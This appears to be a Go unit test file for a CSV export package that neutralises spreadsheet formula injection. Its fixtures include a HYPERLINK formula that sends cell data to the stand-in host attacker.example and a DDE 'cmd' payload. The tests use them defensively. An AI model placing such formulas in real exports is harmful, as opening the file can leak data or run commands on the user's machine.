package csvout

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"
)

func TestNeutralise(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")", "'=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")"},
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"+1-555-0100", "'+1-555-0100"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"", ""},
		{"Finance", "Finance"},
		{"a=b", "a=b"},
		{" =1+1", " =1+1"},
		{"'quoted", "'quoted"},
		{"Ångström", "Ångström"},
		{"75", "75"},
	}
	for _, tt := range tests {
		if got := Neutralise(tt.in); got != tt.want {
			t.Errorf("Neutralise(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// Every cell that would start a formula is neutralised, in every column;
// raw keeps the bytes; the caller's row is not changed; the output parses
// back with encoding/csv.
func TestWriter(t *testing.T) {
	row := []string{"co-1", "=cmd|' /C calc'!A0", "+Sales", "Plain, with comma", "-1", "@x", "\tTab", "\rCR"}
	orig := slices.Clone(row)
	for _, raw := range []bool{false, true} {
		var out bytes.Buffer
		w := NewWriter(&out, raw)
		if err := w.WriteAll([][]string{{"id", "name"}, row}); err != nil {
			t.Fatal(err)
		}
		if !slices.Equal(row, orig) {
			t.Fatalf("Write changed the caller's row to %q", row)
		}
		r := csv.NewReader(&out)
		r.FieldsPerRecord = -1
		got, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for i, cell := range got[1] {
			want := Neutralise(row[i])
			if raw {
				want = row[i]
			}
			if cell != want {
				t.Errorf("raw=%v: cell %d = %q, want %q", raw, i, cell, want)
			}
			if !raw && cell != "" && strings.IndexByte(FormulaStarts, cell[0]) >= 0 {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
	}
}
